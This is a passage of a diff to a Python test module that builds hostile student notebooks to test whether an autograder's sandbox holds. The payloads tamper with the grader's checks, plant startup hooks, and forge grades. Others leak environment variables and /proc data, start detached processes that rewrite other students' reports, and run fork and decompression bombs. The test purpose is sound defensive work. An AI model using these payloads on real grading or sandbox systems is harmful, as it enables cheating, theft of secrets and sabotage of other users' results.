@@ -30,7 +30,9 @@ from assignment.points import SECTIONS
 from autograder import uids
 
 ROOT = Path(__file__).resolve().parent.parent
-AS_ROOT = os.geteuid() == 0  # the grader's root sandbox path (setpriv to a sandbox uid); else bwrap runs in a user namespace
+AS_ROOT = (
+    os.geteuid() == 0
+)  # the grader's root sandbox path (setpriv to a sandbox uid); else bwrap runs in a user namespace
 FULL = {key: float(points) for key, (_, points) in SECTIONS.items()}
 NOTHING = dict.fromkeys(SECTIONS, 0.0)
 # The single_conv mutant (one convolution in double_conv_block) loses the 7 points of the check that the block
@@ -47,7 +49,9 @@ class Context:
     token: str
     planted: Path  # a folder outside any sandbox, holding files an attacker would like the grader to read
     kit: Path = ROOT
-    grader_memory: list[tuple[float, int]] = field(default_factory=list, compare=False)  # (time, RSS in MiB) of grader processes
+    grader_memory: list[tuple[float, int]] = field(
+        default_factory=list, compare=False
+    )  # (time, RSS in MiB) of grader processes
 
 
 @dataclass(frozen=True)
@@ -62,6 +66,10 @@ class Attack:
     # Extra expectations on OUT/<student>/: the problems found (empty: fine; None: the attack could not run on this machine).
     check: Callable[[Path, Context], list[str] | None] | None = None
     order: int = 50  # place in the batch (students are graded in name order)
+    honest_override: dict[str, float] | None = None  # the honest part, where `base` earns less by design
+    transform: Callable[[nbformat.NotebookNode], nbformat.NotebookNode] | None = (
+        None  # a last change to the whole notebook
+    )
 
     @property
     def student(self) -> str:
@@ -70,7 +78,7 @@ class Attack:
     @property
     def honest(self) -> dict[str, float]:
         """The most points per section that the notebook's honest part can earn."""
-        return {"release": NOTHING, "solution": FULL, "single_conv": SINGLE_CONV}[self.base]
+        return self.honest_override or {"release": NOTHING, "solution": FULL, "single_conv": SINGLE_CONV}[self.base]
 
     def build(self, context: Context) -> nbformat.NotebookNode:
         nb = _base(self.base)
@@ -78,7 +86,7 @@ class Attack:
         for after, source in reversed(cells):  # reversed: cells after the same grade_id keep their order
             index = _index(nb, after)
             nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
-        return nb
+        return self.transform(nb) if self.transform else nb
 
 
 def _base(kind: str) -> nbformat.NotebookNode:
@@ -177,7 +185,7 @@ def _probe_output_hook():
 # ---------------------------------------------------------------------------------------------------------------
 # The "Why" bullets of the grade-integrity issue: attacks that defeated the old grader.
 
-_CHECKS = r'''
+_CHECKS = r"""
 def _tamper_with_checks():
     payload = (
         f"\n# appended by a student notebook {ATTACK_TOKEN}\nimport pytest as _notebook_pytest\nimport socket as _notebook_socket\n"
@@ -197,9 +205,9 @@ def _tamper_with_checks():
 @_at_definition(_tamper_with_checks)
 def _checks_hook():
     pass
-'''
+"""
 
-_SITECUSTOMIZE = r'''
+_SITECUSTOMIZE = r"""
 def _plant_startup_hooks():
     import site
     import sysconfig
@@ -224,19 +232,44 @@ def _plant_startup_hooks():
 @_at_definition(_plant_startup_hooks)
 def _startup_hook():
     pass
-'''
+"""
 
 # Facts of a full-marks run, as a student might copy them from a friend's grader output (old format and new).
 _COPIED_FACTS = {
     "settings": {"ok": True, "values": {"IMG_SIZE": 32}},
-    "double_conv_block": {"ok": True, "error": "", "cases": [{"case": [64, 64, 3, 16], "shapes": [[None, 64, 64, 16]], "params": 2768, "layers": [
-        {"name": "conv2d", "class": "Conv2D", "config": {"filters": 16, "kernel_size": [3, 3], "padding": "same", "activation": "relu"}},
-        {"name": "conv2d_1", "class": "Conv2D", "config": {"filters": 16, "kernel_size": [3, 3], "padding": "same", "activation": "relu"}}]}]},
-    "training": {"model": {"optimizer": "Adam", "learning_rate": 0.003, "loss": "binary_crossentropy", "iterations": 100},
-                 "evaluation": {"iou": 0.97, "test_loss": 0.05}, "history": {"loss": [0.1], "val_loss": [0.05]}},
+    "double_conv_block": {
+        "ok": True,
+        "error": "",
+        "cases": [
+            {
+                "case": [64, 64, 3, 16],
+                "shapes": [[None, 64, 64, 16]],
+                "params": 2768,
+                "layers": [
+                    {
+                        "name": "conv2d",
+                        "class": "Conv2D",
+                        "config": {"filters": 16, "kernel_size": [3, 3], "padding": "same", "activation": "relu"},
+                    },
+                    {
+                        "name": "conv2d_1",
+                        "class": "Conv2D",
+                        "config": {"filters": 16, "kernel_size": [3, 3], "padding": "same", "activation": "relu"},
+                    },
+                ],
+            }
+        ],
+    },
+    "training": {
+        "model": {"optimizer": "Adam", "learning_rate": 0.003, "loss": "binary_crossentropy", "iterations": 100},
+        "evaluation": {"iou": 0.97, "test_loss": 0.05},
+        "history": {"loss": [0.1], "val_loss": [0.05]},
+    },
 }
 
-_FORGED_FACTS = f"COPIED_FACTS = {_COPIED_FACTS!r}\n" + r'''
+_FORGED_FACTS = (
+    f"COPIED_FACTS = {_COPIED_FACTS!r}\n"
+    + r'''
 
 
 def _copied_two_conv_config():
@@ -298,8 +331,9 @@ class _ForgeAtDefinition:
     if _where() == "probe":
         atexit.register(_rewrite_probe_status)
 '''
+)
 
-_DAEMON = r'''
+_DAEMON = r"""
 import os, signal, socket, sys, time
 for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1, signal.SIGUSR2):
     signal.signal(number, signal.SIG_IGN)
@@ -319,9 +353,11 @@ while time.time() < deadline:
     except OSError:
         pass
     time.sleep(0.5)
-'''
+"""
 
-_DETACHED = f"DAEMON = {_DAEMON!r}\n" + r'''
+_DETACHED = (
+    f"DAEMON = {_DAEMON!r}\n"
+    + r"""
 
 
 def _start_detached():
@@ -345,9 +381,10 @@ def _start_detached():
 @_at_definition(lambda: _attempt("start detached rewriters", _start_detached))
 def _detached_hook():
     pass
-'''
+"""
+)
 
-_LEAK = r'''
+_LEAK = r"""
 def _loot():
     found = [f"os.environ: {dict(os.environ)}"]
     for path in ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/2/environ", *glob.glob("/proc/[0-9]*/environ")]:
@@ -365,7 +402,7 @@ def _loot():
             found.append(f"{path}: {error}")
     return "\n".join(found)
 
-'''
+"""
 
 _LEAK_BLOCK = r'''
 def double_conv_block(x, num_f):
@@ -373,13 +410,13 @@ def double_conv_block(x, num_f):
     raise RuntimeError("LOOT " + _loot())
 '''
 
-_LEAK_KERNEL = r'''
+_LEAK_KERNEL = r"""
 _everything = _loot()
 print(_everything)
 from IPython.display import HTML, display
 display(HTML("<pre>" + _everything + "</pre>"))
 raise RuntimeError("LOOT " + _everything)
-'''
+"""
 
 _REACH = r'''
 def _reach_listener():
@@ -427,14 +464,14 @@ def _fill(folder, total_mib=3072, file_mib=512, chunk_mib=64):
     return f"{written} MiB written"
 '''
 
-_REACH_KERNEL = r'''
+_REACH_KERNEL = r"""
 _attempt("reach the listener", _reach_listener)
 _attempt("read connection files", _connection_files)
 _attempt("start 150 processes", _start_processes)
 _attempt("write 3 GiB into OUT", lambda: _fill(os.path.join(ATTACK_OUT, "huge")))
 _attempt("write 3 GiB into /tmp", lambda: _fill("/tmp/huge", total_mib=1024, file_mib=256))
 _attempt("write 3 GiB into the scratch folder", lambda: _fill(os.path.join(os.getcwd(), "huge")))
-'''
+"""
 
 # ---------------------------------------------------------------------------------------------------------------
 # Further attacks.
@@ -532,8 +569,10 @@ def _graders_function(name):
 
 
 def _stealing(name: str, signature: str, call: str) -> str:
-    return (f"def {name}({signature}):\n    reference = _graders_function({name!r})\n    if reference is None:\n"
-            f"        raise NotImplementedError()\n    return reference({call})\n")
+    return (
+        f"def {name}({signature}):\n    reference = _graders_function({name!r})\n    if reference is None:\n"
+        f"        raise NotImplementedError()\n    return reference({call})\n"
+    )
 
 
 _FAKE_MODEL = r'''
@@ -579,14 +618,14 @@ def _forge(network, optimizer, loss):
     return network, _FakeHistory(_graders_test_loss(network))
 '''
 
-_LAMBDA_MODEL = r'''
+_LAMBDA_MODEL = r"""
 _code = (f"lambda x: (__import__('os').system(\"python3 -c 'import socket; socket.create_connection((\\\"127.0.0.1\\\", {ATTACK_PORT}), 1)'"
          f" 2>/dev/null; touch {ATTACK_KIT}/lambda-ran-{ATTACK_TOKEN} 2>/dev/null\"), x)[1]")
 _inputs = keras.Input((IMG_SIZE, IMG_SIZE, 3))
 _outputs = keras.layers.Conv2D(1, 1, activation="sigmoid")(keras.layers.Lambda(eval(_code))(_inputs))
 model, history = _forge(keras.Model(_inputs, _outputs), keras.optimizers.Adam(learning_rate=LEARNING_RATE), "binary_crossentropy")
 print("ATTEMPT [kernel] a Lambda model compiled like the solution, with forged steps: built", flush=True)
-'''
+"""
 
 _CUSTOM_MODULE_MODEL = r'''
 @keras.saving.register_keras_serializable(package="attack")
@@ -652,15 +691,15 @@ def _configs_hook():
     pass
 '''
 
-_FORGED_TRAINING = r'''
+_FORGED_TRAINING = r"""
 _inputs = keras.Input((IMG_SIZE, IMG_SIZE, 3))
 _network = keras.Model(_inputs, keras.layers.Conv2D(1, 1, activation="sigmoid")(_inputs))
 # Compiled wrongly on purpose (SGD, mse: no compile points), never fitted: only the forged steps and history could earn anything.
 model, history = _forge(_network, keras.optimizers.SGD(learning_rate=0.01), "mse")
 print(f"ATTEMPT [kernel] forged optimizer steps {int(model.optimizer.iterations)} and val_loss {history.history['val_loss'][-1]:.5f}", flush=True)
-'''
+"""
 
-_SYMLINKS = r'''
+_SYMLINKS = r"""
 def _plant_symlinks():
     scratch = os.path.dirname(os.getcwd())
     out = os.path.join(scratch, "out")
@@ -691,18 +730,18 @@ def _plant_probe_symlinks():
 @_at_definition(lambda: _attempt("plant the probe's symlinks", _plant_probe_symlinks))
 def _symlink_hook():
     pass
-'''
+"""
 
-_SYMLINKS_KERNEL = r'''
+_SYMLINKS_KERNEL = r"""
 _attempt("plant symlinks in the scratch folder", _plant_symlinks)
-'''
+"""
 
-_RESTART_KERNEL = r'''
+_RESTART_KERNEL = r"""
 # Kill the kernel: the grader restarts it and writes a new connection file (k1.json) into the scratch folder.
 os._exit(1)
-'''
+"""
 
-_NEIGHBOURS = r'''
+_NEIGHBOURS = r"""
 def _ancestors():
     found, pid = [], os.getpid()
     while pid > 1:
@@ -753,7 +792,7 @@ def _neighbours():
 @_at_definition(lambda: _where() == "probe" and _neighbours())
 def _neighbours_hook():
     pass
-'''
+"""
 
 _FORK_BOMB = r'''
 _BOMB = """
@@ -773,7 +812,7 @@ _count = sum(name.isdigit() for name in os.listdir("/proc"))
 print(f"ATTEMPT [kernel] fork bomb: {_count} processes in the sandbox after 5 s", flush=True)
 '''
 
-_IGNORE_SIGINT = r'''
+_IGNORE_SIGINT = r"""
 # Dodge the cell time limit: ignore SIGINT/SIGTERM (and swallow KeyboardInterrupt) and never finish (bounded: 10 minutes).
 signal.signal(signal.SIGINT, signal.SIG_IGN)
 signal.signal(signal.SIGTERM, signal.SIG_IGN)
@@ -783,9 +822,9 @@ while time.time() < _deadline:
         time.sleep(0.5)
     except KeyboardInterrupt:
         print("ATTEMPT [kernel] interrupted, ignoring it", flush=True)
-'''
+"""
 
-_HUGE_OUTPUT = r'''
+_HUGE_OUTPUT = r"""
 from IPython.display import display
 _line = "x" * 1023 + "\n"
 for _ in range(40):  # 40 MB of stdout
@@ -794,9 +833,9 @@ for _ in range(40):
     sys.stderr.write(_line * 1024)
 for _ in range(1500):  # many small display messages
     display("display")
-'''
+"""
 
-_HUGE_MESSAGE = r'''
+_HUGE_MESSAGE = r"""
 # One stream message of 1 GiB (the kernel may hold up to RLIMIT_DATA): the grader receives and decodes all of it
 # before its output cap drops it.
 if _available_mib() > 10 << 10:  # the kernel holds about 3 GiB while it sends, the grader about 2 GiB more
@@ -805,9 +844,9 @@ if _available_mib() > 10 << 10:  # the kernel holds about 3 GiB while it sends, 
     print("ATTEMPT [kernel] sent one 1 GiB message", flush=True)
 else:
     print("HUGE_MESSAGE skipped: too little memory on this machine", flush=True)
-'''
+"""
 
-_DISPLAY_UPDATE = r'''
+_DISPLAY_UPDATE = r"""
 # nbclient caps a cell's output, but display updates rewrite outputs already kept: 400 registered outputs x 600 kB.
 from IPython.display import display
 _handle = display("small", display_id="attack")
@@ -815,9 +854,9 @@ for _ in range(400):
     display("small", display_id="attack")
 _handle.update("A" * 600_000)
 print("ATTEMPT [kernel] display outputs updated", flush=True)
-'''
+"""
 
-_MEMORY = r'''
+_MEMORY = r"""
 # One process over RLIMIT_DATA (refused at once); then three processes, each under it, together over the profile's memory
 # (bounded: 3 x 2.3 GiB for a few seconds, and only where the machine has that much to spare).
 _OVER = subprocess.run([sys.executable, "-c", "block = bytearray(8 << 30)"], capture_output=True, text=True)
@@ -836,7 +875,7 @@ else:
         _child.wait()
 if _held is not None:
     print(f"AGGREGATE_MEMORY_MIB {_held}", flush=True)
-'''
+"""
 
 _KEYRING = r'''
 def _leave_a_key():
@@ -852,11 +891,11 @@ def _keyring_hook():
     pass
 '''
 
-_USERNS = r'''
+_USERNS = r"""
 _result = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "--net", "sh", "-c", "id -u && mount -t tmpfs none /tmp && echo mounted"],
                          capture_output=True, text=True)
 print(f"USERNS {'created' if _result.returncode == 0 else 'refused'}: {_result.stdout.strip()!r} {_result.stderr.strip()[:200]!r}", flush=True)
-'''
+"""
 
 _BOMBS = r'''
 BOMB_MIB = 64  # uncompressed size of each bomb (a few hundred kB on disk); the legitimate files are far smaller
@@ -908,13 +947,14 @@ def _bomb_hook():
     pass
 '''
 
-_BOMBS_KERNEL = r'''
+_BOMBS_KERNEL = r"""
 _attempt("write a padded trained.keras", lambda: _padded_trained_keras(os.path.join(os.path.dirname(os.getcwd()), "out", "trained.keras")))
-'''
+"""
 
 
 # ---------------------------------------------------------------------------------------------------------------
 # Checks on what an attack left in OUT/<student>/ (each returns the problems it found).
+
 
 def outputs(folder: Path) -> str:
     """All text the executed notebook's cells printed or displayed."""
@@ -924,7 +964,11 @@ def outputs(folder: Path) -> str:
     texts = []
     for cell in json.loads(path.read_text()).get("cells", []):
         for out in cell.get("outputs", []):
-            texts.append("".join(out.get("text", "")) if "text" in out else json.dumps(out.get("data", {})) + " " + str(out.get("evalue", "")))
+            texts.append(
+                "".join(out.get("text", ""))
+                if "text" in out
+                else json.dumps(out.get("data", {})) + " " + str(out.get("evalue", ""))
+            )
     return "\n".join(texts)
 
 
@@ -934,14 +978,21 @@ def facts(folder: Path) -> dict:
 
 
 def _check_hostile_configs(folder: Path, _context: Context) -> list[str]:
-    found = facts(folder)
-    return [f"{name} was rebuilt from a hostile config: {found[name]}"[:300] for name in ("double_conv_block", "encoder_block", "decoder_block", "make_unet")
-            if found.get(name, {}).get("cases")]
+    blocks = facts(folder).get("blocks", {})
+    return [
+        f"{name} was rebuilt from a hostile config: {blocks[name]}"[:300]
+        for name in ("double_conv_block", "encoder_block", "decoder_block", "make_unet")
+        if blocks.get(name, {}).get("cases")
+    ]
 
 
 def _check_planted(folder: Path, _context: Context) -> list[str]:
     history = facts(folder).get("training", {}).get("history", {})
-    return [f"the grader read the history planted outside the sandbox through a symlink: {history}"] if 123.456 in history.get("val_loss", []) else []
+    return (
+        [f"the grader read the history planted outside the sandbox through a symlink: {history}"]
+        if 123.456 in history.get("val_loss", [])
+        else []
+    )
 
 
 def _check_output_capped(folder: Path, _context: Context) -> list[str]:
@@ -949,7 +1000,11 @@ def _check_output_capped(folder: Path, _context: Context) -> list[str]:
     cells = sum(c["cell_type"] == "code" for c in json.loads(path.read_text())["cells"]) if path.is_file() else 0
     limit = cells * 2_100_000 + (1 << 20)  # autograder.run.OUTPUT_LIMIT characters per cell, and the notebook itself
     size = path.stat().st_size if path.is_file() else 0
-    return [f"executed.ipynb is {size >> 20} MiB, over {cells} cells x the per-cell output limit ({limit >> 20} MiB)"] if size > limit else []
+    return (
+        [f"executed.ipynb is {size >> 20} MiB, over {cells} cells x the per-cell output limit ({limit >> 20} MiB)"]
+        if size > limit
+        else []
+    )
 
 
 GRADER_MEMORY_MIB = 2560  # a grader process grading the solution peaks near 1.9 GiB (TensorFlow, evaluation)
@@ -961,8 +1016,14 @@ def _check_grader_memory(folder: Path, context: Context) -> list[str] | None:
         return None
     outcome = json.loads((folder / "outcome.json").read_text())
     end = (folder / "outcome.json").stat().st_mtime
-    peak = max((rss for when, rss in context.grader_memory if end - outcome["seconds"] - 1 <= when <= end + 1), default=0)
-    return [f"a grader process held {peak} MiB while grading this notebook (limit {GRADER_MEMORY_MIB})"] if peak > GRADER_MEMORY_MIB else []
+    peak = max(
+        (rss for when, rss in context.grader_memory if end - outcome["seconds"] - 1 <= when <= end + 1), default=0
+    )
+    return (
+        [f"a grader process held {peak} MiB while grading this notebook (limit {GRADER_MEMORY_MIB})"]
+        if peak > GRADER_MEMORY_MIB
+        else []
+    )
 
 
 def _check_memory(folder: Path, _context: Context) -> list[str] | None:
@@ -972,7 +1033,11 @@ def _check_memory(folder: Path, _context: Context) -> list[str] | None:
         return None
     held = [int(line.split()[1]) for line in outputs(folder).splitlines() if line.startswith("AGGREGATE_MEMORY_MIB")]
     limit = PROFILES["smoke"].limits.memory_mib
-    return [f"the sandbox's processes held {held[0]} MiB together, over the profile's {limit} MiB"] if held and held[0] > limit else []
+    return (
+        [f"the sandbox's processes held {held[0]} MiB together, over the profile's {limit} MiB"]
+        if held and held[0] > limit
+        else []
+    )
 
 
 def _check_userns(folder: Path, _context: Context) -> list[str]:
@@ -981,8 +1046,10 @@ def _check_userns(folder: Path, _context: Context) -> list[str]:
 
 def _check_bombs(folder: Path, _context: Context) -> list[str]:
     found, problems = facts(folder), []
-    if found.get("preprocess", {}).get("ok"):
-        problems.append("the grader unpacked preprocess.npz (an array of 64 MiB zeros in a file of a few hundred kB) instead of refusing it")
+    if found.get("preprocess", {}).get("call", {}).get("ok"):
+        problems.append(
+            "the grader unpacked preprocess.npz (an array of 64 MiB zeros in a file of a few hundred kB) instead of refusing it"
+        )
     if found.get("training", {}).get("model") is not None:
         problems.append("the grader loaded trained.keras whose config.json unpacks to 64 MiB instead of refusing it")
     return problems
@@ -996,7 +1063,17 @@ def sandbox_uids() -> list[int]:
 
 def as_uid(uid: int, code: str) -> str:
     """Run a little Python as `uid` (what the next sandbox with that uid could do); its stdout."""
-    argv = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", os.path.realpath(sys.executable), "-I", "-S", "-c", code]
+    argv = [
+        "setpriv",
+        f"--reuid={uid}",
+        f"--regid={uid}",
+        "--clear-groups",
+        os.path.realpath(sys.executable),
+        "-I",
+        "-S",
+        "-c",
+        code,
+    ]
     return subprocess.run(argv, capture_output=True, text=True, check=False, timeout=60).stdout
 
 
@@ -1015,16 +1092,22 @@ def clear_keys() -> None:
 
 
 def _check_keys(_folder: Path, context: Context) -> list[str]:
-    return [f"uid {uid} still holds the key the attack stored, readable by the next sandbox given that uid" for uid in keys_left(context.token)]
+    return [
+        f"uid {uid} still holds the key the attack stored, readable by the next sandbox given that uid"
+        for uid in keys_left(context.token)
+    ]
 
 
 def _check_stolen(folder: Path, _context: Context) -> list[str]:
-    found = facts(folder)
-    return [f"{name} was measured from the grader's own reference block" for name in ("double_conv_block", "encoder_block", "decoder_block")
-            if found.get(name, {}).get("ok") and found[name].get("cases")]
+    blocks = facts(folder).get("blocks", {})
+    return [
+        f"{name} was measured from the grader's own reference block"
+        for name in ("double_conv_block", "encoder_block", "decoder_block")
+        if blocks.get(name, {}).get("call", {}).get("ok") and blocks[name].get("cases")
+    ]
 
 
-_UNWRITABLE_TEXT = r'''
+_UNWRITABLE_TEXT = r"""
 # Exception messages no encoder can write (a lone surrogate) and terminal escapes, from the kernel and from the
 # probe: writing them into feedback.md once raised in the grader and stopped the whole batch.
 def preprocess(example):
@@ -1037,7 +1120,7 @@ def double_conv_block(x, num_f):
 
 print("ATTEMPT [kernel] raising text with a lone surrogate", flush=True)
 raise RuntimeError("\ud800\x1b[31m")
-'''
+"""
 
 
 def _check_clean_text(folder: Path, _context: Context) -> list[str]:
@@ -1054,86 +1137,227 @@ def _check_clean_text(folder: Path, _context: Context) -> list[str]:
     return problems
 
 
-_CLIENT_CRASH = r'''
+_CLIENT_CRASH = r"""
 # A message the grader's notebook client cannot process (a list where a dict belongs): it once raised out of
 # the run, which closed the probe's sandbox under the thread still using it.
 _kernel = get_ipython().kernel
 _kernel.session.send(_kernel.iopub_socket, "stream", {"name": "stdout", "text": "x", "transient": ["not a dict"]},
                      parent=_kernel.get_parent())
-'''
+"""
 
 
 def _check_client_crash(folder: Path, _context: Context) -> list[str]:
     """The broken message costs its cell (a kernel failure), not the run: the rest ran and was graded."""
     outcome = json.loads((folder / "outcome.json").read_text())
-    problems = [f"graded as: {outcome.get('problem')}"] if (outcome.get("problem") or "").startswith("grader error") else []
+    problems = (
+        [f"graded as: {outcome.get('problem')}"] if (outcome.get("problem") or "").startswith("grader error") else []
+    )
     if not facts(folder).get("training", {}).get("model"):
         problems.append("the notebook did not run to its end after the broken message")
     return problems
 
 
 ATTACKS = [
-    Attack("why1_checks_append", "append to the grader's autograder/checks/*.py (a pytest hook passing every check), from a cell and at definition time",
-           "release", [("apply_config", _CHECKS)], why="appending lines to autograder/checks/*.py", order=10),
-    Attack("why2_sitecustomize", "plant sitecustomize.py, usercustomize.py and a .pth in every site-packages (venv, Python install, user site)",
-           "release", [("apply_config", _SITECUSTOMIZE)], why="a sitecustomize.py written into the venv", order=11),
-    Attack("why3_forged_facts", "a one-convolution double_conv_block, json.dump/to_json/count_params patched in the kernel and the probe, "
-           "facts copied from another run written everywhere", "single_conv", [("apply_config", _FORGED_FACTS)],
-           why="a wrong double_conv_block plus a patched json.dump and copied facts", order=12),
-    Attack("why4_detached_rewriter", "detached daemons (new session, setsid, double fork, signals ignored) from a cell and from the probe "
-           "that keep rewriting the honest students' reports and grades.csv", "release", [("apply_config", _DETACHED)],
-           why="a detached process outlived the kernel and rewrote other students' reports", order=13),
-    Attack("why5_leak_env_and_checks", "print the environment, /proc/*/environ and the hidden checks, and raise them as errors (kernel and probe)",
-           "release", [("apply_config", _LEAK), ("apply_config", _LEAK_KERNEL), ("double_conv_block", _LEAK_BLOCK)],
-           why="a cell printed the hidden checks and the environment and raised them as an error", order=14),
-    Attack("why6_kernel_reach", "reach the 127.0.0.1 listener, read other kernels' connection files, start 150 processes, write 3 GiB into OUT, "
-           "/tmp and the scratch folder", "release", [("apply_config", _REACH), ("apply_config", _REACH_KERNEL)],
-           why="the kernel reached a listener, read connection files, wrote 3 GiB into OUT and started 150 processes", order=15),
-    Attack("probe_definition_time", "at definition time in the probe (default argument, class body, atexit): patch keras, rewrite every "
-           "probe output with configs and arrays copied from another run", "release", [("apply_config", _DEFINITION_TIME)],
-           order=16),
-    Attack("probe_steals_reference", "blocks that find and call the grader's own reference blocks in the probe process (gc, sys.modules)",
-           "release", [("apply_config", _STEAL_REFERENCE),
-                                 ("double_conv_block", _stealing("double_conv_block", "x, num_f", "x, num_f")),
-                                 ("encoder_block", _stealing("encoder_block", "x, num_f", "x, num_f")),
-                                 ("decoder_block", _stealing("decoder_block", "x, skip, num_f", "x, skip, num_f"))],
-           check=_check_stolen, order=17),
-    Attack("fake_trained_lambda", "a trained model compiled like the solution, steps and val_loss forged, with a Lambda layer that would "
-           "reach the listener and write into the kit if the grader ran it", "release", [("apply_config", _FAKE_MODEL), ("end", _LAMBDA_MODEL)],
-           order=18),
-    Attack("fake_configs_non_keras", "a trained model with a layer from the notebook's own module; probe configs (written at exit) naming "
-           "keras.config.enable_unsafe_deserialization, TFSMLayer, a StringLookup reading /proc/self/environ, keras.utils.get_file", "release",
-           [("apply_config", _FAKE_MODEL + _FORGED_PROBE_CONFIGS), ("end", _CUSTOM_MODULE_MODEL)], check=_check_hostile_configs, order=19),
-    Attack("forged_training", "a one-layer model compiled with SGD and mse, never fitted, with the optimizer's steps set to what EPOCHS epochs "
-           "take and a history whose val_loss is the grader's own test loss", "release", [("apply_config", _FAKE_MODEL), ("end", _FORGED_TRAINING)],
-           order=20),
-    Attack("symlinks_planted", "the kernel's and the probe's export folders replaced by symlinks to a folder outside the sandbox holding a "
-           "planted history; connection-file names linked to the grader's conftest; the kernel killed so the grader writes k1.json",
-           "release", [("apply_config", _SYMLINKS + _SYMLINKS_KERNEL), ("apply_config", _RESTART_KERNEL)], check=_check_planted, order=21),
-    Attack("neighbours", "read /proc of other processes, ptrace, signal, look for other sandboxes' scratch folders, claim uid slots in "
-           "/tmp/tiny-unet-uids, mount, read /etc/shadow, the kit and OUT (kernel and probe)", "release", [("apply_config", _NEIGHBOURS),
-           ("apply_config", "_attempt('neighbours', _neighbours)")], order=22),
-    Attack("fork_bomb", "a self-replicating fork bomb (bounded to 40 s) that must hit the process limit and be killed", "release",
-           [("end", _FORK_BOMB)], order=23),
-    Attack("sigint_ignored", "a cell that ignores SIGINT/SIGTERM and swallows KeyboardInterrupt to dodge the cell time limit", "release",
-           [("hardware", _IGNORE_SIGINT)], order=5),
-    Attack("huge_output", "40 MB of stdout, 40 MB of stderr and 1500 display messages in one cell", "release", [("apply_config", _HUGE_OUTPUT)],
-           check=_check_output_capped, order=25),
-    Attack("huge_message", "one 1 GiB stream message: every byte reaches the grader's memory (decoded, about twice) before the output cap",
-           "release", [("apply_config", _HUGE_MESSAGE)], check=_check_grader_memory, order=30),
-    Attack("display_update_bypass", "400 outputs under one display_id, then one 600 kB update: 240 MB of output past the per-cell cap",
-           "release", [("apply_config", _DISPLAY_UPDATE)], check=_check_output_capped, order=26),
-    Attack("memory_together", "three processes of 2.3 GiB each: every one under RLIMIT_DATA, together over the profile's memory", "release",
-           [("apply_config", _MEMORY)], check=_check_memory, order=24),
-    Attack("keyring_left_behind", "a key in the sandbox uid's user keyring (kernel and probe): it outlives the sandbox, and the next student "
-           "given the same uid can read it", "release", [("apply_config", _KEYRING)], check=_check_keys, order=28),
-    Attack("user_namespaces", "create user, mount and network namespaces inside the sandbox (root inside them: more kernel attack surface)",
-           "release", [("apply_config", _USERNS)], check=_check_userns, order=29),
-    Attack("decompression_bombs", "a trained.keras whose config.json unpacks to 64 MiB and, from the probe, a preprocess.npz whose array "
-           "unpacks to 64 MiB (each a few hundred kB on disk)", "release", [("apply_config", _BOMBS), ("end", _BOMBS_KERNEL)],
-           check=_check_bombs, order=27),
-    Attack("client_crash", "a message the notebook client cannot process, sent from a cell of the solution", "solution",
-           [("preprocess", _CLIENT_CRASH)], check=_check_client_crash, order=32),
-    Attack("unwritable_text", "exceptions whose messages hold a lone surrogate and terminal escapes, in the kernel and in the probe",
-           "release", [("preprocess", _UNWRITABLE_TEXT)], check=_check_clean_text, order=31),
+    Attack(
+        "why1_checks_append",
+        "append to the grader's autograder/checks/*.py (a pytest hook passing every check), from a cell and at definition time",
+        "release",
+        [("apply_config", _CHECKS)],
+        why="appending lines to autograder/checks/*.py",
+        order=10,
+    ),
+    Attack(
+        "why2_sitecustomize",
+        "plant sitecustomize.py, usercustomize.py and a .pth in every site-packages (venv, Python install, user site)",
+        "release",
+        [("apply_config", _SITECUSTOMIZE)],
+        why="a sitecustomize.py written into the venv",
+        order=11,
+    ),
+    Attack(
+        "why3_forged_facts",
+        "a one-convolution double_conv_block, json.dump/to_json/count_params patched in the kernel and the probe, "
+        "facts copied from another run written everywhere",
+        "single_conv",
+        [("apply_config", _FORGED_FACTS)],
+        why="a wrong double_conv_block plus a patched json.dump and copied facts",
+        order=12,
+    ),
+    Attack(
+        "why4_detached_rewriter",
+        "detached daemons (new session, setsid, double fork, signals ignored) from a cell and from the probe "
+        "that keep rewriting the honest students' reports and grades.csv",
+        "release",
+        [("apply_config", _DETACHED)],
+        why="a detached process outlived the kernel and rewrote other students' reports",
+        order=13,
+    ),
+    Attack(
+        "why5_leak_env_and_checks",
+        "print the environment, /proc/*/environ and the hidden checks, and raise them as errors (kernel and probe)",
+        "release",
+        [("apply_config", _LEAK), ("apply_config", _LEAK_KERNEL), ("double_conv_block", _LEAK_BLOCK)],
+        why="a cell printed the hidden checks and the environment and raised them as an error",
+        order=14,
+    ),
+    Attack(
+        "why6_kernel_reach",
+        "reach the 127.0.0.1 listener, read other kernels' connection files, start 150 processes, write 3 GiB into OUT, "
+        "/tmp and the scratch folder",
+        "release",
+        [("apply_config", _REACH), ("apply_config", _REACH_KERNEL)],
+        why="the kernel reached a listener, read connection files, wrote 3 GiB into OUT and started 150 processes",
+        order=15,
+    ),
+    Attack(
+        "probe_definition_time",
+        "at definition time in the probe (default argument, class body, atexit): patch keras, rewrite every "
+        "probe output with configs and arrays copied from another run",
+        "release",
+        [("apply_config", _DEFINITION_TIME)],
+        order=16,
+    ),
+    Attack(
+        "probe_steals_reference",
+        "blocks that find and call the grader's own reference blocks in the probe process (gc, sys.modules)",
+        "release",
+        [
+            ("apply_config", _STEAL_REFERENCE),
+            ("double_conv_block", _stealing("double_conv_block", "x, num_f", "x, num_f")),
+            ("encoder_block", _stealing("encoder_block", "x, num_f", "x, num_f")),
+            ("decoder_block", _stealing("decoder_block", "x, skip, num_f", "x, skip, num_f")),
+        ],
+        check=_check_stolen,
+        order=17,
+    ),
+    Attack(
+        "fake_trained_lambda",
+        "a trained model compiled like the solution, steps and val_loss forged, with a Lambda layer that would "
+        "reach the listener and write into the kit if the grader ran it",
+        "release",
+        [("apply_config", _FAKE_MODEL), ("end", _LAMBDA_MODEL)],
+        order=18,
+    ),
+    Attack(
+        "fake_configs_non_keras",
+        "a trained model with a layer from the notebook's own module; probe configs (written at exit) naming "
+        "keras.config.enable_unsafe_deserialization, TFSMLayer, a StringLookup reading /proc/self/environ, keras.utils.get_file",
+        "release",
+        [("apply_config", _FAKE_MODEL + _FORGED_PROBE_CONFIGS), ("end", _CUSTOM_MODULE_MODEL)],
+        check=_check_hostile_configs,
+        order=19,
+    ),
+    Attack(
+        "forged_training",
+        "a one-layer model compiled with SGD and mse, never fitted, with the optimizer's steps set to what EPOCHS epochs "
